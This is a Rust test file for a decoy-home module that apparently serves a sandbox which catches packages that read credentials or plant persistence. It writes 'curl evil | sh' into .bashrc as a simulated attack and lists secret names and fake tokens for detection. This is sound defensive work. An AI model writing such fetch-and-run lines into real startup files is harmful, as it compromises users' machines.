//! Tests of `decoys`.

use super::env::value_may_be_secret;
use super::*;
use std::os::unix::fs::MetadataExt;

#[test]
fn decoys_hold_unique_canaries_and_reads_are_seen() {
    let a = DecoyHome::plant(Path::new("/home/u")).unwrap();
    let b = DecoyHome::plant(Path::new("/home/u")).unwrap();
    assert_ne!(a.canaries()[0].value, b.canaries()[0].value);
    let npmrc = std::fs::read_to_string(b.host_dir().join(".npmrc")).unwrap();
    assert!(npmrc.contains(&b.canaries()[0].value));
    let _ = std::fs::read(a.host_dir().join(".aws/credentials")).unwrap();
    std::fs::write(a.host_dir().join(".bashrc"), "curl evil | sh\n").unwrap();
    let f = a.findings();
    assert!(
        f.iter()
            .any(|x| x.kind == FindingKind::SecretRead && x.target == "/home/u/.aws/credentials"),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|x| x.kind == FindingKind::PersistenceAttempt && x.target == "/home/u/.bashrc"),
        "{f:?}"
    );
    assert_eq!(f.len(), 2, "only what was done: {f:?}");
}

#[test]
fn credentials_are_recognised_by_name_and_by_value() {
    for name in [
        "DATABASE_URL",
        "PGPASSWORD",
        "GITHUB_PAT",
        "API_KEY",
        "STRIPE_SECRET_KEY",
        "SECRET_KEY_BASE",
        "SENTRY_DSN",
        "GOOGLE_CREDENTIALS",
        "DOCKER_AUTH_CONFIG",
        "NPM_TOKEN",
        "npm_config__authToken",
        "npm_config_//registry.npmjs.org/:_authToken",
        "AWS_ACCESS_KEY_ID",
        "MY_SERVICE_PASS",
    ] {
        assert!(is_secret_var(name), "{name}");
    }
    for name in [
        "PATH",
        "HOME",
        "CI",
        "GITHUB_ACTIONS",
        "npm_config_cache",
        "npm_package_name",
        "npm_config_auth_type",
        "SSH_AUTH_SOCK",
        "NODE_OPTIONS",
        "KEYBOARD",
        "CFLAGS",
        "GIT_AUTHOR_NAME",
        "XDG_SESSION_TYPE",
        "DBUS_SESSION_BUS_ADDRESS",
    ] {
        assert!(!is_secret_var(name), "{name}");
    }
    for value in [
        "postgres://app:hunter2@db.internal:5432/app",
        "-----BEGIN RSA PRIVATE KEY-----\nMII",
        "{\"type\":\"service_account\",\"private_key\":\"x\"}",
        "ghp_0123456789abcdefABCDEF0123456789abcd",
        "AKIAIOSFODNN7EXAMPLE",
        "sk_live_51H8xYzAbCdEfGh",
        "Zx9Qm2Lr7Tb4Wn8Kp3Vc6Hs1Jd5Fg0Ay",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXZhbHVl",
        "https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/cccccccccccccccccccccccc",
        "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop",
        // A base64 salt with `/` and `+` in it.
        "q8Jd/2kLx+9aZ0Pq1wR3tY5uI7oP9aSdQx4=",
    ] {
        assert!(looks_secret(value), "{value}");
    }
    for name in [
        "SLACK_WEBHOOK_URL",
        "PASSWORD_SALT",
        "APP_HMAC",
        "JWT_SIGNING_KEY",
    ] {
        assert!(is_secret_var(name), "{name}");
    }
    for value in [
        "/usr/local/bin:/usr/bin:/bin",
        "https://registry.npmjs.org/",
        "http://proxy.internal:3128",
        "en_US.UTF-8",
        "true",
        "--max-old-space-size=4096",
        "xterm-256color",
        "sha512-7ScDKNy1xoYOG67gsY496YffOBzz0W/Ib2U3XJZ0uPr9BEWaWp8FjWIvC04A9Uqjpxq4tMWDC47B4c7zL20Tuw==",
        // Temporary paths have random names: a path is never a token.
        "/tmp/ringfence-test-bjKP6M/home/app",
        "/tmp/XyZ0aBcD9eFgH1iJkL2mNoP3qRsT4uVw5/x",
    ] {
        assert!(!looks_secret(value), "{value}");
    }
    assert!(!value_may_be_secret("npm_package_integrity"));
    // Opaque hex and UUIDs are keys, unless the name says they are a commit or an id.
    for value in [
        "0123456789abcdef0123456789abcdef01234567",
        "9f86d081884c7d659a2feaa0c55ad015",
        "123e4567-e89b-12d3-a456-426614174000",
    ] {
        assert!(looks_secret(value), "{value}");
    }
    for name in [
        "GITHUB_SHA",
        "CI_COMMIT_SHA",
        "AZURE_TENANT_ID",
        "BUILD_SOURCEVERSION_HASH",
    ] {
        assert!(!value_may_be_secret(name), "{name}");
    }
    assert!(value_may_be_secret("SONAR_LOGIN"));
    assert!(is_secret_var("GPG_PASSPHRASE"));
}

#[test]
fn secret_variables_are_replaced_by_canaries() {
    let mut d = DecoyHome::plant(Path::new("/h")).unwrap();
    let mut env = vec![
        ("NPM_TOKEN".to_string(), "npm_REALSECRET".to_string()),
        ("MY_SERVICE_API_KEY".to_string(), "REAL2".to_string()),
        ("PATH".to_string(), "/usr/bin".to_string()),
    ];
    d.scrub_env(&mut env);
    assert!(!env.iter().any(|(_, v)| v.contains("REAL")), "{env:?}");
    assert!(env.iter().any(|(k, _)| k == "GITHUB_TOKEN"));
    assert!(env.contains(&("PATH".into(), "/usr/bin".into())));
    assert!(
        d.canaries()
            .iter()
            .any(|c| c.id == "env:MY_SERVICE_API_KEY")
    );
    // A replaced value looks like a real one: its token prefix stays, and nothing in it says
    // canary, decoy or ringfence.
    let npm = &env.iter().find(|(k, _)| k == "NPM_TOKEN").unwrap().1;
    assert!(npm.starts_with("npm_") && npm.len() >= 24, "{npm}");
    for (_, v) in &env {
        let v = v.to_ascii_lowercase();
        for tell in ["canary", "decoy", "ringfence", "rf_"] {
            assert!(!v.contains(tell), "{v} contains {tell}");
        }
    }
}

/// Nothing a script can list or read in the decoy home names ringfence or calls itself a
/// decoy; the wallet is named per run as geth names keystores; the files' times are a plausible
/// day in the past months, not a fixed sentinel; and a read of the per-run-named decoy is seen
/// and named by its stable entry.
#[test]
fn decoys_do_not_announce_themselves() {
    let a = DecoyHome::plant(Path::new("/home/u")).unwrap();
    let b = DecoyHome::plant(Path::new("/home/u")).unwrap();
    let now = i64::try_from(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs(),
    )
    .unwrap();
    let mut keystores = Vec::new();
    for home in [&a, &b] {
        for (rel, _, _) in &home.files {
            let lower = rel.to_ascii_lowercase();
            assert!(
                !lower.contains("ringfence") && !lower.contains("decoy"),
                "{rel}"
            );
            let path = home.host_dir().join(rel);
            let meta = std::fs::symlink_metadata(&path).unwrap();
            assert!(
                meta.mtime() == meta.atime()
                    && (now - 181 * 86_400..now - 9 * 86_400).contains(&meta.mtime()),
                "{rel}: {} {}",
                meta.mtime(),
                meta.atime()
            );
            let text = std::fs::read_to_string(&path).unwrap().to_ascii_lowercase();
            assert!(
                !text.contains("ringfence") && !text.contains("decoy"),
                "{rel}: {text}"
            );
            if let Some(name) = rel.strip_prefix(".ethereum/keystore/") {
                let (stamp, address) = name.rsplit_once("--").unwrap();
                assert!(
                    stamp.starts_with("UTC--20") && stamp.ends_with('Z'),
                    "{name}"
                );
                assert!(address.len() == 40 && address.bytes().all(|c| c.is_ascii_hexdigit()));
                keystores.push(rel.clone());
            }
        }
    }
    assert_eq!(keystores.len(), 2);
    assert_ne!(keystores[0], keystores[1], "named per run");
    // (Reading above moved every access time of `a` and `b`; `findings` reads the home too,
    // so a fresh one is read once, then compared once.)
    let c = DecoyHome::plant(Path::new("/home/u")).unwrap();
    let wallet = c
        .files
        .iter()
        .find(|f| f.1.starts_with(".ethereum"))
        .unwrap()
        .0
        .clone();
    let _ = std::fs::read(c.host_dir().join(&wallet)).unwrap();
    let f = c.findings();
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].target, "/home/u/.ethereum/keystore/");
    assert!(f[0].detail.as_deref().unwrap().contains(&wallet), "{f:?}");
    assert!(c.is_decoy(&Path::new("/home/u").join(&wallet)));
}

#[test]
fn keystore_times_are_civil_utc() {
    assert_eq!(super::plant::utc_stamp(0), "1970-01-01T00-00-00");
    assert_eq!(
        super::plant::utc_stamp(1_000_000_000),
        "2001-09-09T01-46-40"
    );
    assert_eq!(
        super::plant::utc_stamp(1_709_251_199),
        "2024-02-29T23-59-59"
    );
}

/// Filling HOME past what the comparison reads first cannot hide persistence: every persistence
/// path is then read directly, and the incomplete comparison is itself a finding.
#[test]
fn a_flooded_home_still_shows_persistence() {
    let a = DecoyHome::plant(Path::new("/home/u")).unwrap();
    let junk = a.host_dir().join(".junk");
    std::fs::create_dir_all(&junk).unwrap();
    for i in 0..20_010 {
        std::fs::write(junk.join(i.to_string()), "").unwrap();
    }
    std::fs::write(a.host_dir().join(".bashrc"), "curl evil | sh\n").unwrap();
    std::fs::create_dir_all(a.host_dir().join(".config/autostart")).unwrap();
    std::fs::write(
        a.host_dir().join(".config/autostart/x.desktop"),
        "[Desktop Entry]\n",
    )
    .unwrap();
    let f = a.findings();
    assert!(
        f.iter()
            .any(|x| x.code == Code::RecordingDegraded && x.severity == Severity::Medium)
    );
    assert!(
        f.iter()
            .any(|x| x.kind == FindingKind::PersistenceAttempt && x.target == "/home/u/.bashrc"),
        "{f:#?}"
    );
    assert!(
        f.iter().any(|x| x.kind == FindingKind::PersistenceAttempt
            && x.target == "/home/u/.config/autostart/x.desktop"),
        "{f:#?}"
    );
}
